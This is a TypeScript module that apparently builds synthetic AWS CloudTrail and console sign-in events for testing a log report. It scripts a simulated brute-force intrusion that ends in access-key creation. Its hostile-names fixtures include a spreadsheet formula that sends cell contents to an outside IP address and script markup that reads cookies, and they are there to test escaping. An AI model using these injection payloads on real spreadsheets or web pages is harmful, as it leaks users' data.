import { DAY, LAST_DAY } from './calendar.ts';
import { UNUSUAL_FORMS } from './call.ts';
import type { Cast } from './cast.ts';
import * as company from './company.ts';
import {
  federatedIdentity,
  iamUser,
  newKey,
  type Principal,
  roleIdentity,
  rootIdentity,
  signedIn,
} from './identity.ts';
import type { Random } from './random.ts';
import type { Session, UserIdentity } from './record.ts';
import * as signIns from './sign-ins.ts';
import { type Occurrence, Stage } from './stage.ts';

const { BOTO, CHROME, CLI, GUESSER, HEADLESS, IRELAND, LONDON_OFFICE, MANAGEMENT, NEW_YORK_OFFICE, OHIO } =
  company;
const { OIDC_PROVIDER, PRODUCTION, SAML_PROVIDER, SECURITY, STAGING, SYDNEY, SYDNEY_HOME } = company;
const { TOKYO, TOKYO_OFFICE, VIRGINIA } = company;

/** A cell that runs in a spreadsheet, and markup that runs in a page. */
const FORMULA = '=HYPERLINK("http://198.51.100.66/?leak="&A1,"open")';
const MARKUP =
  'curl/8.5.0 "quoted", <script>alert(document.cookie)</script>\nX-Second-Line: 1,2,3\t<img src=x onerror=alert(1)>';

/** Days with fewer events than this have no stories, except the last day: there would be little else. */
const BUSY_DAY = 500;

/** What happens in every sample: all of it on the last day, so that a report of that day shows it. */
export function storiesOf(cast: Cast, days: number, events: number, random: Random): Occurrence[] {
  const last = new Stage(cast.named, random, LAST_DAY);
  const stories = [
    visitors,
    lateSignIns,
    rootAtWork,
    attack,
    hostileNames,
    strangers,
    crossAccount,
    unusualTypes,
  ];
  const occurrences = stories.flatMap((story) => story(last));
  for (let back = 1; back < days && events / days >= BUSY_DAY; back++) {
    const stage = new Stage(cast.named, random, LAST_DAY - back * DAY);
    occurrences.push(...lateSignIns(stage));
    if (back % 3 === 1) occurrences.push(...guesses(stage, [stage.who('awsadmin'), MANAGEMENT, PRODUCTION]));
  }
  return occurrences;
}

/** Every way into the console, and what the sign-in pages record besides. */
function visitors(stage: Stage): Occurrence[] {
  const { who } = stage;
  const portalUser = '9567a1b2c3-4d5e6f70-1234-4abc-8def-0123456789ab';
  // biome-ignore format: a table
  return stage.signIns(CHROME, [
    ['00:04:12', VIRGINIA, TOKYO_OFFICE, signIns.checkMfa(who('tanaka'))],
    ['00:04:21', VIRGINIA, TOKYO_OFFICE, signIns.userLogin(who('tanaka'), 'Yes')],
    ['00:12:20', TOKYO, TOKYO_OFFICE, signIns.portalSignIn(portalUser, 'Success')],
    ['00:12:31', TOKYO, TOKYO_OFFICE, signIns.roleLogin(who('AdministratorAccess'), 'hanako.yamada@example.com')],
    ['00:31:40', SYDNEY, TOKYO_OFFICE, signIns.userLogin(who('suzuki'), 'Yes')],
    ['00:47:03', VIRGINIA, TOKYO_OFFICE, signIns.userLogin(who('awsadmin'), 'No')],
    ['01:15:55', TOKYO, TOKYO_OFFICE, signIns.userLogin(who('tanaka'), 'YES')],
    ['05:10:02', VIRGINIA, TOKYO_OFFICE, signIns.failedUserLogin(who('suzuki'), 'Yes')],
    ['05:10:23', VIRGINIA, TOKYO_OFFICE, signIns.failedUserLogin(who('suzuki'), 'NO')],
    ['05:10:57', VIRGINIA, TOKYO_OFFICE, signIns.userLogin(who('suzuki'), 'Yes')],
    ['06:40:17', VIRGINIA, TOKYO_OFFICE, signIns.unknownUserLogin(SECURITY)],
    ['06:40:47', VIRGINIA, TOKYO_OFFICE, signIns.unknownUserLogin(PRODUCTION), 'twice'],
    ['08:12:26', TOKYO, LONDON_OFFICE, signIns.portalSignIn(portalUser, 'Failure')],
    ['08:55:09', IRELAND, LONDON_OFFICE, signIns.roleLogin(who('CorpFederatedEngineer'), 'grace.oconnor', SAML_PROVIDER)],
    ['09:02:31', OHIO, LONDON_OFFICE, signIns.checkMfa(who('alice'))],
    ['09:02:45', OHIO, LONDON_OFFICE, signIns.userLogin(who('alice'), 'Yes')],
    ['09:20:44', VIRGINIA, LONDON_OFFICE, signIns.switchRole(who('alice'), who('deploy-production'))],
    ['10:05:12', VIRGINIA, LONDON_OFFICE, signIns.federatedLogin(who('awsadmin'), 'auditor')],
    ['13:30:48', VIRGINIA, NEW_YORK_OFFICE, signIns.roleLogin(who('AdministratorAccess'), 'liam.smith@example.com'), 'twice'],
  ]);
}

/** Sign-ins of a day in the next day's folder: one held up for hours, one just before midnight. */
function lateSignIns(stage: Stage): Occurrence[] {
  // biome-ignore format: a table
  return stage.signIns(CHROME, [
    ['20:14:26', VIRGINIA, SYDNEY_HOME, signIns.roleLogin(stage.who('AdministratorAccess'), 'liam.smith@example.com'), 'late'],
    ['23:59:17', VIRGINIA, TOKYO_OFFICE, signIns.userLogin(stage.who('tanaka'), 'Yes')],
  ]);
}

/** Root signs in, at the second try, for the few things that only root may do. */
function rootAtWork(stage: Stage): Occurrence[] {
  const identity = rootIdentity(MANAGEMENT, signedIn(stage.random, stage.at('02:16:05'), true));
  const session = { account: MANAGEMENT, identity, address: TOKYO_OFFICE, agent: CHROME, console: true };
  const titles =
    'iam:GetAccountSummary iam:ListMFADevices iam:GenerateCredentialReport account:PutAlternateContact';
  return [
    ...stage.signIns(CHROME, [
      ['02:15:01', VIRGINIA, TOKYO_OFFICE, signIns.failedRootLogin(MANAGEMENT)],
      ['02:16:05', VIRGINIA, TOKYO_OFFICE, signIns.rootLogin(MANAGEMENT)],
      ['02:20:01', VIRGINIA, TOKYO_OFFICE, signIns.passwordUpdated(MANAGEMENT)],
    ]),
    ...stage.calls('02:17:00', VIRGINIA, session, titles),
  ];
}

/** One address tries names and passwords, gets in by a forgotten user without MFA, and makes access keys. */
function attack(stage: Stage): Occurrence[] {
  const forgotten = stage.who('legacy-report');
  const users = 'suzuki suzuki legacy-report awsadmin awsadmin tanaka'.split(' ').map(stage.who);
  const keyed = stage.keyed(forgotten, GUESSER, BOTO);
  const identity = { ...keyed.identity, ...signedIn(stage.random, stage.at('17:53:38'), false) };
  const browser: Session = { ...keyed, identity, agent: HEADLESS, console: true };
  const lookAround = 'iam:GetAccountSummary iam:ListUsers iam:ListRoles s3:ListBuckets';
  const script = 'sts:GetCallerIdentity iam:ListUsers ec2:DescribeInstances';
  const denied =
    'iam:AttachUserPolicy! secretsmanager:GetSecretValue! ec2:RunInstances! cloudtrail:StopLogging!';
  const keyFor = (userName: string, clock: string, session = browser) =>
    stage.calls(clock, TOKYO, session, 'iam:CreateAccessKey', { userName });
  return [
    ...guesses(stage, [...users, PRODUCTION, MANAGEMENT, ...users]),
    ...stage.signIns(HEADLESS, [['17:53:38', VIRGINIA, GUESSER, signIns.userLogin(forgotten, 'No')]]),
    ...stage.calls('17:54:10', TOKYO, browser, lookAround),
    ...keyFor('legacy-report', '17:56:20'),
    ...keyFor('backup-agent', '17:57:02'),
    ...stage.calls('18:01:00', SYDNEY, keyed, script),
    ...stage.calls('18:02:10', SYDNEY, keyed, denied),
    ...keyFor('deploy-old', '18:02:41', stage.keyed(stage.who('tanaka'), TOKYO_OFFICE, CLI)),
  ];
}

/** @param targets users, or accounts in which a name is tried that they do not have */
function guesses(stage: Stage, targets: readonly (Principal | string)[]): Occurrence[] {
  return targets.map((target, n) => {
    const at = stage.at('17:47:05') + 25 * n;
    const isAccount = typeof target === 'string';
    const signIn = isAccount ? signIns.unknownUserLogin(target) : signIns.failedUserLogin(target, 'No');
    const visitor = { random: stage.random, at, region: VIRGINIA, address: GUESSER, agent: HEADLESS };
    return { at, record: signIn(visitor) };
  });
}

/** What strangers choose to write into the logs. IAM refuses most of these names, but a reader must not rely on it. */
function hostileNames(stage: Stage): Occurrence[] {
  const named = (name: string) => iamUser(stage.random, STAGING, name);
  const lookups = [FORMULA, '=1+1@example.com', '田中太郎'].flatMap((name, n) =>
    stage.calls(`19:1${n}:40`, TOKYO, stage.keyed(named(name), GUESSER, MARKUP), 'iam:GetUser!'),
  );
  // biome-ignore format: a table
  return [...lookups, ...stage.signIns(MARKUP, [
    ['07:33:00', TOKYO, TOKYO_OFFICE, signIns.roleLogin(stage.who('AdministratorAccess'), '田中花子@example.com')],
    ['19:05:11', VIRGINIA, GUESSER, (at) => signIns.unknownUserLogin(PRODUCTION)({ ...at, agent: FORMULA })],
    ['19:05:44', VIRGINIA, GUESSER, (at) => signIns.failedUserLogin(named('+1-555-0100@example.com'), 'No')(at)],
  ])];
}

/** Identities that are neither IAM user nor role: of other providers, anonymous, of unknown type, without a type. */
function strangers(stage: Stage): Occurrence[] {
  const auditor = federatedIdentity(stage.who('awsadmin'), 'auditor', stage.at('10:05:12'));
  const hanako = { principalId: '6Kb0d2bV8uNcXqzP1rLJ:田中 花子', userName: '田中 花子' };
  // biome-ignore format: a table
  const rows: [clock: string, UserIdentity, title: string][] = [
    ['07:31:00', { type: 'SAMLUser', ...hanako, identityProvider: SAML_PROVIDER }, 'sts:AssumeRoleWithSAML'],
    ['09:41:00', { type: 'WebIdentityUser', userName: 'repo:example-corp/shop', identityProvider: OIDC_PROVIDER }, 'sts:AssumeRoleWithWebIdentity'],
    ['10:06:00', auditor, 's3:ListBuckets'],
    ['11:20:00', { type: 'AWSAccount', principalId: '', accountId: 'ANONYMOUS_PRINCIPAL' }, 's3:GetObject'],
    ['11:21:00', { type: 'Unknown', principalId: '', accountId: PRODUCTION }, 'sts:GetCallerIdentity'],
    ['11:22:00', { invokedBy: 'delivery.logs.amazonaws.com' }, 's3:PutObject'],
  ];
  return rows.flatMap(([clock, identity, title]) => {
    const account = identity === auditor ? MANAGEMENT : PRODUCTION;
    return stage.calls(clock, TOKYO, { account, identity, address: '192.0.2.211', agent: BOTO }, title);
  });
}

/** A role assumed from another account: both accounts log it, each under an eventID of its own. */
function crossAccount(stage: Stage): Occurrence[] {
  const { random } = stage;
  const scanner = stage.who('security-scanner');
  const identity = { type: 'AWSAccount', principalId: `${scanner.principalId}:scan`, accountId: SECURITY };
  const session = { account: PRODUCTION, identity, address: '192.0.2.77', agent: BOTO };
  const request = { roleArn: `arn:aws:iam::${PRODUCTION}:role/SecurityAudit`, roleSessionName: 'scan' };
  return stage.calls('10:30:00', TOKYO, session, 'sts:AssumeRole', request).flatMap(({ at, record }) => {
    const shared = { ...record, sharedEventID: random.uuid() };
    const userIdentity = roleIdentity(scanner, 'scan', at, newKey('ASIA', random));
    const atCaller = { ...shared, eventID: random.uuid(), userIdentity, recipientAccountId: SECURITY };
    return [shared, atCaller].map((one) => ({ at, record: one }));
  });
}

function unusualTypes(stage: Stage): Occurrence[] {
  const session = stage.keyed(stage.who('tanaka'), TOKYO_OFFICE, CLI);
  return UNUSUAL_FORMS.flatMap((form, n) => {
    const [call] = stage.calls(`04:44:0${n}`, TOKYO, session, 'ec2:DescribeInstances');
    return call ? [{ ...call, record: { ...call.record, ...form(call.record) } }] : [];
  });
}
